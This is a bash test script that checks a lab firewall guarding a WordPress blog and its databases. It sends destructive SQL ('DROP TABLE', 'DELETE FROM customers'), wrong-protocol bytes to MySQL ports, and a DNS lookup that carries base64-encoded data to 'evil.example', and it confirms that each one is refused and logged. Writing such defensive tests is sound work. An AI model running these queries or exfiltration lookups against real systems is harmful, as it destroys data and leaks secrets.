#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# The blog behind the firewall, with the shipped example policy: what it must do works, what it must not do is
# refused before the server has one byte of it, and every refusal is recorded with its rule or default.
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "$0")/lab.sh"
# shellcheck source=blog.sh
. "$(dirname "$0")/blog.sh"

EXAMPLE=$LAB_ROOT/conf/examples/blog.yaml

serves_the_blog() {
	blog_install
	blog_check_pages
	blog_comment "written through the firewall"
	lab_contains "the comment" "$(blog_sql db 'SELECT comment_content FROM wp_comments')" "through the firewall"
}

refuses_drop_table() {
	local answer
	lab_mark
	answer=$(blog_sql db 'DROP TABLE wp_links' 'SELECT COUNT(*) FROM wp_posts')
	lab_contains "DROP TABLE" "$answer" "error"
	lab_contains "wp_links" "$(db_itself "SHOW TABLES LIKE 'wp_links'")" "wp_links"
	lab_recorded "DROP TABLE" event_type=violation app_proto=mysql verdict=deny mysql.verb=drop
}

# Asked at the server itself, behind the firewall.
db_itself() { lab_exec db mariadb --no-defaults --socket=/tmp/mysql.sock -N wordpress -e "$1"; }

refuses_unnamed_table() {
	local answer
	lab_mark
	answer=$(blog_sql crm 'SELECT name FROM customers')
	lab_contains "customers" "$answer" "Ada"
	answer=$(blog_sql crm 'SELECT * FROM salaries')
	lab_contains "salaries" "$answer" "error"
	lab_lacks "salaries" "$answer" "1815"
	lab_recorded "salaries" event_type=violation app_proto=mysql verdict=deny mysql.tables~salaries
	answer=$(blog_sql crm "DELETE FROM customers WHERE name = 'Ada'")
	lab_contains "DELETE" "$answer" "error"
	lab_contains "customers" "$(blog_sql crm 'SELECT name FROM customers')" "Ada"
}

# Wrong words for a MySQL port. Every one is said at once, before any greeting could arrive.
# shellcheck disable=SC2016 # the dollars are Redis' own
WRONG=('GET / HTTP/1.1\r\nHost: db\r\n\r\n' 'POST / HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc' 'PING\r\n'
	'*1\r\n$4\r\nPING\r\n' 'SSH-2.0-OpenSSH_9.2\r\n' '\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03' '\0\0\0\0')

# wrong_protocol_at TAP-NAME HOST: no payload byte arrives at the server's port; a real query's bytes do
wrong_protocol_at() {
	local server=$1 host=$2 words ending
	lab_mark
	lab_tap "$server" "tap-$server" "$(lab_payload_to 3306)"
	for words in "${WRONG[@]}"; do
		ending=$(lab_exec wordpress /usr/bin/python3 /lab/talk.py "$host" 3306 "$words")
		lab_say "   '${words:0:20}' to $server: $ending"
		lab_lacks "'${words:0:12}'" "$ending" "silence"
	done
	lab_exec wordpress curl -s -m 8 "http://$host:3306/" >/dev/null && lab_fail "HTTP answered from $host:3306"
	# One byte at a time, after the greeting: no single one of them could be told from MySQL's.
	ending=$(lab_exec wordpress /usr/bin/python3 /lab/talk.py "$host" 3306 'GET / HTTP/1.1\r\n\r\n' 0.05)
	lab_say "   drip to $server: $ending"
	lab_equal "payload segments of wrong protocols at $server" 0 "$(lab_tapped "tap-$server")"
	lab_recorded "HTTP at $server" event_type=violation reason=wrong-protocol dest_port=3306
	blog_sql "$server" 'SELECT 1' >/dev/null
	[[ $(lab_tapped "tap-$server") -gt 0 ]] || lab_fail "the tap at $server sees nothing at all"
	lab_ok "the tap at $server sees a real query"
}

# The same against an application that never speaks first: it reads whatever gets through.
nothing_reaches_the_application() {
	local words
	lab_host other 198.19.3.10
	lab_spawn other counted /usr/bin/python3 "$LAB_SOURCE/count_bytes.py" 3306
	lab_wait_port other 3306
	sed 's,198.19.1.10/32,198.19.3.10/32,' "$EXAMPLE" | drop_tests >"$LAB_DIR/other.yaml"
	lab_bw_down
	lab_bw_up "$LAB_DIR/other.yaml"
	for words in "${WRONG[@]}"; do
		lab_exec wordpress /usr/bin/python3 /lab/talk.py 198.19.3.10 3306 "$words" >/dev/null
	done
	lab_must_wait 15 "the counter" counted_all
	lab_equal "bytes read by the application" "bytes 0" "$(sort -u "$LAB_DIR/log/counted")"
}

counted_all() { [[ $(grep -c . "$LAB_DIR/log/counted") -ge ${#WRONG[@]} ]]; }
drop_tests() { sed '/^tests:/,$d'; }

refuses_the_internet() {
	local before ending
	lab_mark
	lab_tap internet tap-internet "tcp dst port 80 and src net 198.18.0.0/16"
	before=$(date +%s%N)
	ending=$(lab_exec wordpress /usr/bin/python3 /lab/talk.py "$BLOG_INTERNET" 80 'GET / HTTP/1.0\r\n\r\n')
	[[ $ending == refused || $ending == unreachable ]] || lab_fail "WordPress to the internet: $ending"
	(($(date +%s%N) - before < 2000000000)) || lab_fail "the refusal took two seconds or more"
	lab_ok "WordPress to the internet: $ending at once"
	lab_equal "packets at the internet host" 0 "$(lab_tapped tap-internet)"
	lab_recorded "the internet" event_type=violation verdict=deny reason=default dest_ip="$BLOG_INTERNET"
}

# The name of the update server may be asked for; a name that carries something out may not.
names() {
	lab_contains "api.wordpress.org" "$(lab_exec wordpress getent hosts api.wordpress.org)" "$BLOG_INTERNET"
	lab_mark
	! lab_exec wordpress getent hosts c2VjcmV0.evil.example || lab_fail "c2VjcmV0.evil.example was answered"
	lab_recorded "evil.example" event_type=violation app_proto=dns verdict=deny dns.rrname~evil.example
}

refuses_side_doors() {
	lab_mark
	lab_refused "xmlrpc.php" "$(lab_get internet "$BLOG_URL/xmlrpc.php" -d '<methodCall/>')"
	lab_recorded "xmlrpc.php" event_type=violation app_proto=http rule=no-side-doors
}

leaves_nothing_behind() {
	lab_bw_down
	lab_equal "rules left after the end" "" "$(lab_bw_rules)"
	lab_contains "the internet without the firewall" \
		"$(lab_exec wordpress curl -s -m 5 "http://$BLOG_INTERNET/")" "the internet"
}

blog_need tcpdump
lab_have_bw
blog_up
lab_bw_up "$EXAMPLE"
serves_the_blog
refuses_drop_table
refuses_unnamed_table
wrong_protocol_at db db
wrong_protocol_at crm "$BLOG_CRM"
refuses_the_internet
refuses_side_doors
names
nothing_reaches_the_application
leaves_nothing_behind
